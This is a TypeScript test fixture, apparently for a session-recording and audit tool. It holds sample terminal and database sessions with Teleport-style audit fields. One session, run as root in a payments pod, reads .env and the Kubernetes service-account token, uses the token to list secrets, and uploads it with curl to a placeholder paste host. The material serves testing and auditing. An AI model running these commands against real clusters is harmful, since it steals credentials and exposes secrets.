import type { AuditEvent } from "../../src/domain/recording.ts";

/** A session to record in a real terminal on a machine of its own. */
export interface TerminalSession {
  readonly id: string;
  readonly format: "teleport-1" | "teleport-2" | "asciicast-3";
  /** The machine's host name, its user, and the script beside this file that sets it up. */
  readonly host: string;
  readonly login: string;
  readonly setup: string;
  /** Debian packages that the machine has besides this one's tools. */
  readonly packages: readonly string[];
  readonly keys: readonly string[];
  /** What the session's events say of its user and its resource, in the audit log's form. */
  readonly fields: AuditEvent;
}

const cluster = "teleport.example.com";
const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const BACKSPACE = "\x7f";

/** Who took part and where: the samples' users, roles, traits and labels. */
export const terminalSessions: readonly TerminalSession[] = [
  {
    id: "8f14e45f-ceea-467f-ab8e-5d2c1b0a96e2",
    format: "teleport-1",
    host: "web-3",
    login: "alice",
    setup: "web.sh",
    packages: ["nginx", "sudo"],
    keys: [
      "tail -n 4 /var/log/nginx/error.log\r",
      "curl -sSk --tls-max 1.2 https://localhost/\r",
      "grep -n ssl_protocols /etc/nginx/conf.d/tls.conf\r",
      "nginx -t\r",
      "sudo vim /etc/nginx/conf.d/tls.conf\r",
      "a-password-for-samples\r",
      ":%s/TLSv1.3;/TLSv1.2 TLSv1.3;/\r",
      ":wq\r",
      "sudo nginx -t\r",
      `sudo nginx -s restart${BACKSPACE.repeat("restart".length)}reload\r`,
      "curl -sSk --tls-max 1.2 https://localhost/\r",
      "tail -n 2 /var/log/nginx/access.log\r",
      "exit\r",
    ],
    fields: {
      cluster_name: cluster,
      user: "alice",
      login: "alice",
      user_roles: ["access", "dev"],
      user_traits: { logins: ["alice"], teams: ["alpha"] },
      user_kind: 1,
      proto: "ssh",
      namespace: "default",
      server_id: "3d3c8f0e-6c0b-4b8e-9a53-0d3f1b2f7a31",
      server_hostname: "web-3",
      server_addr: "10.20.0.13:3022",
      server_labels: { env: "prod", tier: "web", team: "alpha" },
      "addr.remote": "198.51.100.24:52114",
      session_recording: "node",
    },
  },
  {
    id: "0c9a4e7b-2d61-4f38-8b57-91c3e2a60f71",
    format: "teleport-2",
    host: "payments-api-7c9d8b6f5d-x2kqp",
    login: "root",
    setup: "pod.sh",
    packages: [],
    keys: [
      "id\r",
      "ls -l /var/run/secrets/kubernetes.io/serviceaccount\r",
      "cat .env\r",
      `cat ${token}; echo\r`,
      `curl -sSk -H "Authorization: Bearer $(cat ${token})" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/payments/secrets\r`,
      `curl -sS -F token=@${token} https://paste.example.invalid/upload\r`,
      "exit\r",
    ],
    fields: {
      cluster_name: cluster,
      user: "bob",
      login: "root",
      user_roles: ["access", "kube-operator"],
      user_traits: { kubernetes_groups: ["operators"], teams: ["payments"] },
      user_kind: 1,
      proto: "kube",
      namespace: "default",
      kubernetes_cluster: "payments",
      kubernetes_users: ["bob"],
      kubernetes_groups: ["operators", "system:authenticated"],
      kubernetes_labels: { env: "prod", region: "eu-west-1" },
      kubernetes_pod_name: "payments-api-7c9d8b6f5d-x2kqp",
      kubernetes_pod_namespace: "payments",
      kubernetes_container_name: "api",
      kubernetes_container_image: "registry.example.com/payments-api:2.14.1",
      kubernetes_node_name: "node-a4",
      "addr.remote": "198.51.100.87:40226",
      initial_command: ["sh"],
      session_recording: "node",
    },
  },
  {
    id: "6b1d0f92-7e35-4a08-bd14-c85f3a9e2740",
    format: "asciicast-3",
    host: "build-7",
    login: "dave",
    setup: "build.sh",
    packages: [],
    keys: [
      "git log --oneline\r",
      "make test\r",
      "sed -i 's/entries\\[1:\\]/entries/' ledger.py\r",
      "make test\r",
      "git diff --stat\r",
      "exit\r",
    ],
    fields: {
      cluster_name: cluster,
      user: "dave",
      login: "dave",
      user_roles: ["access"],
      user_traits: { logins: ["dave"], teams: ["build"] },
      user_kind: 1,
      proto: "ssh",
      namespace: "default",
      server_id: "b7c2a5d4-10f3-4c6e-8e0a-5a6d9f3c1e27",
      server_hostname: "build-7",
      server_addr: "10.30.0.7:3022",
      server_labels: { env: "dev", tier: "build" },
      "addr.remote": "198.51.100.140:61872",
      session_recording: "node",
    },
  },
];

/** The database session: asked of a real server, one statement after the other. */
export const databaseSession = {
  id: "d20b7c1e-5f94-4be3-a6d0-38e9f1a2745f",
  fields: {
    cluster_name: cluster,
    user: "carol",
    user_roles: ["access", "orders-support"],
    user_traits: { db_names: ["orders"], db_users: ["orders_support"], teams: ["orders"] },
    user_kind: 1,
    db_service: "orders-us",
    db_protocol: "postgres",
    db_uri: "orders-us.db.example.com:5432",
    db_name: "orders",
    db_user: "orders_support",
    db_labels: { env: "prod", region: "us-east-1" },
    db_type: "self-hosted",
    "addr.remote": "198.51.100.51:33408",
    proto: "db",
  },
  /** What the database holds before the session begins. */
  setup: `
    CREATE TABLE customers (id int PRIMARY KEY, email text NOT NULL, card_last4 text NOT NULL);
    INSERT INTO customers SELECT n, format('customer-%s@example.com', n), lpad((n * 37 % 10000)::text, 4, '0')
      FROM generate_series(1, 400) AS n;
    CREATE TABLE orders (id int PRIMARY KEY, customer_id int NOT NULL, status text NOT NULL, total_cents int NOT NULL,
      created_at timestamptz NOT NULL);
    INSERT INTO orders SELECT n, n % 400 + 1, CASE WHEN n % 61 = 0 THEN 'stuck' ELSE 'shipped' END, n * 13 % 9000 + 500,
      now() - n * interval '1 hour' FROM generate_series(1, 2500) AS n;
    CREATE ROLE orders_support LOGIN;
    GRANT SELECT, UPDATE ON orders TO orders_support;
    GRANT SELECT (id) ON customers TO orders_support;`,
  statements: [
    { text: "SELECT status, count(*) FROM orders GROUP BY status ORDER BY status" },
    { text: "SELECT id, customer_id, total_cents FROM orders WHERE status = 'stuck' ORDER BY created_at LIMIT 10" },
    {
      name: "orders_of",
      text: "SELECT id, status, created_at FROM orders WHERE customer_id = $1 AND status <> $2",
      values: ["41", "shipped"],
    },
    { text: "SELECT email, card_last4 FROM customers WHERE id = 41" },
    { text: "SELECT id FROM order WHERE status = 'stuck'" },
    { text: "BEGIN" },
    { text: "UPDATE orders SET status = 'queued' WHERE status = 'stuck' AND created_at < now() - interval '1 day'" },
    { text: "COMMIT" },
    { text: "SELECT count(*) FROM orders WHERE status = 'stuck'" },
  ],
} as const;
